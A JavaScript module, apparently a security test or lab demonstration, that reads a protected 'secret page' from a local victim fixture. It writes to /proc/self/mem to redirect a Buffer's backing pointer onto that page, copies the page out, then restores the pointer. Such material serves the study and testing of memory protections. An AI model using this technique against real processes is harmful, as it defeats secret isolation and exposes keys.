/**
 * Route: /proc/self/mem, opened for writing, changes any byte of the process. Here it points an
 * ordinary array of JavaScript at the secret page.
 */
import { openSync, readSync, writeSync } from 'node:fs';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { readableMappings } from '../../../../tools/forensics/mappings.js';
import { findOwnBuffer } from '../../../../tools/forensics/own-memory.js';
import { loadKey, report, secretPage } from './victim.mjs';

const key = await loadKey();
const memory = openSync('/proc/self/mem', 'r+');
const array = Buffer.from(new ArrayBuffer(1 << 20));
// Objects that have survived the collector twice move no more.
setFlagsFromString('--expose-gc');
const collect = runInNewContext('gc');
collect();
collect();
const pointer = Buffer.alloc(8);
pointer.writeBigUInt64LE(BigInt(findOwnBuffer(memory, array) ?? 0));

/**
 * Every aligned word that is the array's address. A fixed buffer keeps the collector from moving
 * it.
 */
const places = [];
const piece = Buffer.alloc(1 << 20);
for (const { start, end, permissions } of readableMappings('self')) {
  if (!permissions.startsWith('rw')) continue;
  for (let at = start; at < end; at += piece.length) {
    let count = 0;
    try {
      count = readSync(memory, piece, 0, Math.min(piece.length, end - at), at);
    } catch {} // a page that the kernel does not show
    for (let found = piece.indexOf(pointer); found !== -1 && found < count; found = piece.indexOf(pointer, found + 1)) {
      if (found % 8 === 0) places.push(at + found);
    }
  }
}
const { start, bytes } = secretPage();
const target = Buffer.alloc(8);
target.writeBigUInt64LE(BigInt(start));
const page = Buffer.alloc(bytes);
const own = array[0];
const word = Buffer.alloc(8);
// One of the words is the pointer of the array. Each is put back at once.
for (const place of places) {
  readSync(memory, word, 0, 8, place);
  if (!word.equals(pointer)) continue; // the collector has moved it
  writeSync(memory, target, 0, 8, place);
  const isRedirected = array[0] !== own;
  for (let i = 0; isRedirected && i < bytes; i += 1) page[i] = array[i] ?? 0;
  writeSync(memory, pointer, 0, 8, place);
  if (isRedirected) break;
}
report(page);
key.destroy();
